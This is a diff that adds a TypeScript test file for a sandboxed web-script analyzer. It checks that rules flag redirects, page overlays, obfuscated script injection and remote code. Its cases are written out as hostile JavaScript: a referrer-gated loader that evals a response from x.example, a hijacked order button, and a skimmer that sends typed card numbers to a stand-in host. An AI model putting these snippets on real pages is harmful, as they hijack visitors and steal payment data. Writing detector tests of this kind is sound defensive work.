@@ -1,0 +1,68 @@
+import assert from 'node:assert/strict';
+import { signalsOf } from '../../../../analyzer/trace/signals.ts';
+import { traceEvidence } from '../../../../analyzer/trace/evidence/index.ts';
+import { run } from '../../emulator/sandbox-of-tests.ts';
+
+async function found(text: string): Promise<{ reason: string; message: string }[]> {
+  return traceEvidence(signalsOf(text, await run(text)), null).map(({ severity, rule, message }) => ({
+    reason: `${severity} ${rule}`,
+    message,
+  }));
+}
+
+const hidden = (text: string): string => `atob('${Buffer.from(text).toString('base64')}')`;
+const toPhones = (url: string): string =>
+  `if (/iPhone|Android/.test(navigator.userAgent)) location.href = '${url}';`;
+const cover = `var f = document.createElement('iframe'); f.style.cssText = 'position:fixed;width:100%;height:100%;z-index:9999'; f.src = 'https://x.example/'; document.body.appendChild(f);`;
+const loader = `var x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText) }; x.open('GET', 'https://x.example/a'); x.send();`;
+
+const cases: Record<string, [string, string[]]> = {
+  'phones sent to pages for phones': [toPhones('https://m.site.example/'), ['low visitor-sent-away']],
+  'phones sent elsewhere': [
+    toPhones('https://other.example/'),
+    ['low chosen-visitors', 'medium visitor-sent-away'],
+  ],
+  'a visitor sent to another host of the same site': [
+    `if (location.host != 'www.site.example') location.href = '//login.site.example/?to=https://www.site.example/'`,
+    ['low visitor-sent-away'],
+  ],
+  'the order button taken over': [
+    `document.querySelector('[onclick*="payment.save"]').addEventListener('click', function () { location.href = 'https://x.example/' })`,
+    ['high visitor-sent-away'],
+  ],
+  'a page covered without being asked': [cover, ['high page-covered']],
+  "a vendor's own host in packed code": [
+    `var s = document.createElement('script'); s.src = ${hidden('https://www.gstatic.com/a.js')}; document.head.appendChild(s);`,
+    ['low hidden-destination'],
+  ],
+  'another host in packed code': [
+    `var s = document.createElement('script'); s.src = ${hidden('https://x.example/a.js')}; document.head.appendChild(s);`,
+    ['high hidden-destination'],
+  ],
+  'a host whose registered part can be read': [
+    `var s = document.createElement('script'); s.src = 'https://' + ['en', 'gine'].join('') + '.x-cdn.example/a.js'; document.head.appendChild(s);`,
+    [],
+  ],
+  'an answer that is run': [loader, ['medium remote-code']],
+  'an answer that is run for visitors from search engines': [
+    `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
+    ['high chosen-visitors', 'high remote-code'],
+  ],
+};
+
+describe('evidence of the run', () => {
+  for (const [title, [script, expected]] of Object.entries(cases))
+    it(`sees ${title}`, async () =>
+      assert.deepEqual(
+        (await found(script)).map(({ reason }) => reason),
+        expected,
+      ));
+
+  it('speaks of one thing in the singular and of several in the plural', async () => {
+    const one = `new Image().src = 'https://x.example/?' + document.querySelector('#cc_number').value`;
+    const two = `${one} + '&' + document.querySelector('#cc_owner').value`;
+    const says = async (text: string): Promise<string> => (await found(text))[0]!.message;
+    assert.match(await says(one), /^The typed card number was seen on its way/);
+    assert.match(await says(two), /^The typed .+ and .+ were seen on their way/);
+  });
+});
